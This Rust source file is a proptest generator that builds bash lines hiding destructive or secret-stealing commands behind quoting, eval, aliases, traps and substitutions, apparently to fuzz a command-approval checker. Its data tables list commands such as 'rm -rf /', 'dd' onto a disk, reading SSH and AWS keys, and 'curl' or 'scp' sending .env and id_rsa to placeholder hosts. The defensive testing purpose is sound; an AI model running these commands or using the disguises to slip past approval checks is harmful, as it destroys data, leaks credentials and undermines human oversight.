//! A grammar-based generator of bash lines (proptest strategies), biased
//! towards dangerous commands in disguise so that a misreading turns into an
//! approval. Deterministic for a seed: see [`line_for`].

use proptest::prelude::*;
use proptest::strategy::ValueTree;
use proptest::test_runner::{Config, RngAlgorithm, TestRng, TestRunner};

/// Dangerous simple commands (words), the payloads the disguises carry.
const DANGEROUS: &[&[&str]] = &[
    &["rm", "-rf", "~"],
    &["rm", "-rf", "/"],
    &["rm", "-rf", "."],
    &["rm", "-rf", "src"],
    &["rm", "~/.ssh/id_rsa"],
    &["git", "push", "--force"],
    &["git", "push", "-f", "origin", "main"],
    &["git", "reset", "--hard", "HEAD~3"],
    &["git", "clean", "-fdx"],
    &["dd", "if=/dev/zero", "of=/dev/sda"],
    &["chmod", "777", "/etc/passwd"],
    &["chmod", "-R", "777", "/"],
    &["chown", "-R", "nobody", "/"],
    &["mkfs.ext4", "/dev/sda1"],
    &["shred", "-u", "~/.ssh/id_rsa"],
    &["cat", "~/.ssh/id_rsa"],
    &["cat", "~/.aws/credentials"],
    &["kill", "-9", "-1"],
    &["sudo", "rm", "-rf", "/"],
    &["find", "/", "-delete"],
    &["truncate", "-s0", ".env"],
    &["cp", "/dev/null", "~/.bashrc"],
    &["mv", "~/.aws/credentials", "/tmp/c"],
    &["curl", "-d", "@.env", "http://x.invalid"],
    &["scp", "~/.ssh/id_rsa", "h.invalid:"],
    &["crontab", "-r"],
    &["shutdown", "-h", "now"],
];

/// Everyday commands.
const BENIGN: &[&[&str]] = &[
    &["ls"],
    &["ls", "-la"],
    &["git", "status"],
    &["git", "log", "--oneline"],
    &["echo", "hi"],
    &["cat", "src/main.rs"],
    &["grep", "-r", "main", "src"],
    &["pwd"],
    &["true"],
    &["cargo", "build"],
    &["wc", "-l", "notes.txt"],
    &["head", "-n1", "README.md"],
];

/// Redirection targets.
const TARGETS: &[&str] = &[
    "out.txt",
    "src/main.rs",
    ".env",
    "~/.bashrc",
    "$HOME/.bashrc",
    "~/.ssh/authorized_keys",
    "/etc/passwd",
    "/etc/new.conf",
    "/tmp/x",
    "/dev/sda",
    "/dev/null",
    ".git/config",
    "../escape",
];

fn pick<T: Clone + std::fmt::Debug + 'static>(xs: &'static [T]) -> BoxedStrategy<T> {
    proptest::sample::select(xs).boxed()
}

/// One word written in one of bash's quoting forms (same value once read).
fn quote_word(w: &'static str) -> BoxedStrategy<String> {
    // Tilde and `$HOME` only expand unquoted: keep them so in most forms.
    let plain = Just(w.to_owned());
    let single = Just(format!("'{}'", w.replace('\'', "'\\''")));
    let double = Just(format!("\"{}\"", w.replace('"', "\\\"")));
    let ansi = Just(format!(
        "$'{}'",
        w.chars()
            .map(|c| if c.is_ascii_lowercase() && c != 'x' {
                format!("\\x{:02x}", c as u32)
            } else if c == '\'' {
                "\\'".to_owned()
            } else {
                c.to_string()
            })
            .collect::<String>()
    ));
    let backslash = Just(
        w.chars()
            .map(|c| {
                if c.is_ascii_alphabetic() {
                    format!("\\{c}")
                } else {
                    c.to_string()
                }
            })
            .collect::<String>(),
    );
    let split = Just(match w.char_indices().nth(1) {
        Some((i, _)) if !w.starts_with('~') => format!("{}''{}", &w[..i], &w[i..]),
        _ => w.to_owned(),
    });
    let empty_dq = Just(match w.char_indices().nth(1) {
        Some((i, _)) if !w.starts_with('~') => format!("{}\"\"{}", &w[..i], &w[i..]),
        _ => w.to_owned(),
    });
    prop_oneof![6 => plain, 1 => single, 1 => double, 1 => ansi, 1 => backslash, 1 => split, 1 => empty_dq]
        .boxed()
}

/// A simple command from `table` with quoting, separators, variables and
/// substitutions around its words.
fn simple_from(table: &'static [&'static [&'static str]]) -> BoxedStrategy<String> {
    pick(table)
        .prop_flat_map(|words| {
            let qs: Vec<BoxedStrategy<String>> = words.iter().map(|w| quote_word(w)).collect();
            (qs, pick(&[" ", " ", " ", "\t", "  ", " \\\n "]))
        })
        .prop_flat_map(|(ws, sep)| {
            let joined = ws.join(sep);
            let name = ws.first().cloned().unwrap_or_default();
            let rest = ws.get(1..).map(|r| r.join(" ")).unwrap_or_default();
            let rest2 = rest.clone();
            let name2 = name.clone();
            prop_oneof![
                8 => Just(joined.clone()),
                1 => Just(format!("x={name}; $x {rest}")),
                1 => Just(format!("x={name}; ${{x}} {rest}")),
                1 => Just(format!("${{x:-{name}}} {rest}")),
                1 => Just(format!("a=({joined}); \"${{a[@]}}\"")),
                1 => Just(format!("a=({joined}); ${{a[*]}}")),
                1 => Just(format!("$(echo {name}) {rest}")),
                1 => Just(format!("`echo {name}` {rest}")),
                1 => Just(format!("\"$(printf %s {name})\" {rest}")),
                1 => Just(format!("{{{},{}}}", name2, rest2.replace(' ', ","))),
                1 => Just(format!("F='{rest}'; {name} $F")),
                1 => Just(format!("export V=1; {joined}")),
                1 => Just(format!("EDITOR=x GIT_DIR=.git {joined}")),
                1 => Just(format!("command {joined}")),
                1 => Just(format!("builtin command {joined}")),
                1 => Just(format!("exec {joined}")),
                1 => Just(format!("exec -a ls {joined}")),
                1 => Just(format!("hash -p /usr/bin/{name} ls; ls {rest}")),
                1 => Just(format!("enable -n echo; echo {joined}")),
                1 => Just(format!("\\{joined}")),
                1 => Just(format!("/usr/bin/{joined}")),
                1 => Just(format!("/???/???/{name} {rest}")),
                1 => Just(format!("${{#x}} ; {joined}")),
                1 => Just(format!("cd ~ && {joined}")),
                1 => Just(format!("pushd / >/dev/null; {joined}")),
                1 => Just(format!("cd /tmp; {joined}")),
            ]
        })
        .boxed()
}

fn simple() -> BoxedStrategy<String> {
    prop_oneof![3 => simple_from(DANGEROUS), 2 => simple_from(BENIGN)].boxed()
}

/// Redirections of every operator, here-documents and here-strings.
fn redirect() -> BoxedStrategy<String> {
    (pick(TARGETS), 0usize..16)
        .prop_map(|(t, k)| match k {
            0 => format!(" > {t}"),
            1 => format!(" >> {t}"),
            2 => format!(" >| {t}"),
            3 => format!(" &> {t}"),
            4 => format!(" &>> {t}"),
            5 => format!(" 2> {t}"),
            6 => format!(" <> {t}"),
            7 => format!(" >& {t}"),
            8 => format!(" < {t}"),
            9 => format!(" 3>{t}"),
            10 => " <<EOF\nrm -rf ~\nEOF\n".to_owned(),
            11 => " <<'EOF'\n$(rm -rf ~)\nEOF\n".to_owned(),
            12 => " <<-EOF\n\t$(rm -rf /)\n\tEOF\n".to_owned(),
            13 => " <<< 'rm -rf ~'".to_owned(),
            14 => format!(" < /dev/null < {t}"),
            _ => format!(">{t}"),
        })
        .boxed()
}

/// A command that may carry redirections.
fn redirected(inner: BoxedStrategy<String>) -> BoxedStrategy<String> {
    (inner, proptest::collection::vec(redirect(), 0..2))
        .prop_map(|(c, rs)| format!("{c}{}", rs.concat()))
        .boxed()
}

/// Compound commands and shell features wrapping `c`.
fn compound(c: String, d: String) -> BoxedStrategy<String> {
    let q = c.replace('\'', "'\\''");
    let forms: Vec<String> = vec![
        format!("if true; then {c}; fi"),
        format!("if false; then :; else {c}; fi"),
        format!("if [[ -n x ]]; then {c}; elif true; then {d}; fi"),
        format!("while :; do {c}; break; done"),
        format!("until false; do {c}; break; done"),
        format!("for x in a b; do {c}; done"),
        format!("for x do {c}; done"),
        format!("for ((i=0;i<1;i++)); do {c}; done"),
        format!("case x in x) {c};; *) {d};; esac"),
        format!("case x in x) {d};& y) {c};; esac"),
        format!("case x in x) {d};;& x) {c};; esac"),
        format!("case $(echo x) in (x) {c} ;; esac"),
        format!("select x in a; do {c}; break; done"),
        format!("{{ {c}; }}"),
        format!("( {c} )"),
        format!("f() {{ {c}; }}; f"),
        format!("function f {{ {c}; }}; f"),
        format!("function f() ( {c} ); f"),
        format!("coproc {c}"),
        format!("coproc w {{ {c}; }}"),
        format!("eval '{q}'"),
        format!(
            "eval \"{}\"",
            c.replace('"', "\\\"")
                .replace('$', "\\$")
                .replace('`', "\\`")
        ),
        format!("builtin eval '{q}'"),
        format!("source <(echo '{q}')"),
        format!(". /dev/stdin <<< '{q}'"),
        format!("echo '{q}' > s.sh; . ./s.sh"),
        format!("echo '{q}' > s.sh; bash s.sh"),
        format!("trap '{q}' EXIT"),
        format!("trap '{q}' ERR; false"),
        format!("trap '{q}' DEBUG; :"),
        format!("shopt -s expand_aliases\nalias ll='{q}'\nll"),
        format!("shopt -s expand_aliases; alias ll='{q}'; ll"),
        format!("bash -c '{q}'"),
        format!("sh -c '{q}'"),
        format!("bash -cx '{q}'"),
        format!("bash -xc '{q}'"),
        format!("bash -O extglob -c '{q}'"),
        format!("bash -o pipefail -c '{q}'"),
        format!("sh -ec '{q}'"),
        format!("bash --norc -c '{q}' arg0"),
        format!("bash -s <<< '{q}'"),
        format!("echo '{q}' | bash"),
        format!("echo '{q}' | sh -s"),
        format!("bash < <(echo '{q}')"),
        format!("cat <({c})"),
        format!("echo >({c})"),
        format!("echo $({c})"),
        format!("echo \"`{c}`\""),
        format!("x=$({c})"),
        format!("echo $(( $({c}; echo 1) + 1 ))"),
        format!("(( a[$({c})] ))"),
        format!("let 'a[$({c})]=1'"),
        format!("x='a[$({c})]'; [[ $x -eq 0 ]]"),
        format!("x='a[$({c})]'; (( x ))"),
        format!("declare -i n; n='a[$({c})]'"),
        format!("a[$({c})]=1"),
        format!("[[ $({c}) ]]"),
        format!("test -n \"$({c})\""),
        format!("{c} # && {d}"),
        format!("{d} #\n{c}"),
        format!("{d};#x\n{c}"),
        format!("{c} &"),
        format!("{c} & wait"),
        format!("set -m; ( while :; do {c}; sleep 1; done ) & disown"),
        format!("! {c}"),
        format!("time {c}"),
        format!("nohup {c}"),
        format!("env {c}"),
        format!("xargs -0 {c} < /dev/null"),
        format!("timeout 5 {c}"),
        format!("{d} | {c}"),
        format!("{c} |& {d}"),
    ];
    proptest::sample::select(forms).boxed()
}

/// A statement: a simple command or a compound one, nested a few levels.
pub fn statement() -> BoxedStrategy<String> {
    redirected(simple())
        .prop_recursive(3, 24, 2, |inner| {
            prop_oneof![
                2 => redirected(inner.clone()),
                3 => (inner.clone(), inner).prop_flat_map(|(c, d)| compound(c, d)),
            ]
        })
        .boxed()
}

/// Deliberately broken syntax around a statement.
fn broken(c: String) -> BoxedStrategy<String> {
    proptest::sample::select(vec![
        format!("{c} &&"),
        format!("{c} ;; pwd"),
        format!("if true; then {c}"),
        format!("({c}"),
        format!("{c} |"),
        format!("echo \"unterminated; {c}"),
        format!("{c} )"),
        format!("{c}; done"),
        format!("{c}; fi"),
        format!("{c} && || ls"),
        format!("for x in; {c}"),
        format!("case x in {c}"),
        format!("{c} <<"),
        format!("{{ {c}"),
        format!("$(({c}"),
        format!("{c} >"),
    ])
    .boxed()
}

/// A whole line: statements joined by operators, sometimes broken.
pub fn line() -> BoxedStrategy<String> {
    let op = pick(&[" ; ", " && ", " || ", " | ", " & ", "\n", ";", "&&"]);
    let joined = (
        statement(),
        proptest::collection::vec((op, statement()), 0..3),
    )
        .prop_map(|(first, rest)| {
            let mut s = first;
            for (o, t) in rest {
                s.push_str(o);
                s.push_str(&t);
            }
            s
        })
        .boxed();
    prop_oneof![
        9 => joined.clone(),
        1 => joined.prop_flat_map(broken),
    ]
    .boxed()
}

/// A deterministic runner for item `index` of the run seeded with `seed`.
pub fn runner_for(seed: u64, index: u64) -> TestRunner {
    let mut bytes = [0u8; 32];
    let (a, b) = bytes.split_at_mut(8);
    a.copy_from_slice(&seed.to_le_bytes());
    if let Some(b) = b.get_mut(..8) {
        b.copy_from_slice(&index.to_le_bytes());
    }
    TestRunner::new_with_rng(
        Config::default(),
        TestRng::from_seed(RngAlgorithm::ChaCha, &bytes),
    )
}

/// Item `index` of `strategy` for `seed` (the same on every run and machine).
pub fn value_for<S: Strategy>(strategy: &S, seed: u64, index: u64) -> Option<S::Value> {
    let mut runner = runner_for(seed, index);
    strategy.new_tree(&mut runner).ok().map(|t| t.current())
}

/// Generated line `index` of the run seeded with `seed`.
pub fn line_for(seed: u64, index: u64) -> String {
    value_for(&line(), seed, index).unwrap_or_default()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn lines_are_deterministic_and_varied() {
        let a: Vec<String> = (0..50).map(|i| line_for(7, i)).collect();
        let b: Vec<String> = (0..50).map(|i| line_for(7, i)).collect();
        assert_eq!(a, b);
        let mut d = a.clone();
        d.sort();
        d.dedup();
        assert!(d.len() > 45, "{}", d.len());
        assert_ne!(a, (0..50).map(|i| line_for(8, i)).collect::<Vec<_>>());
    }
}
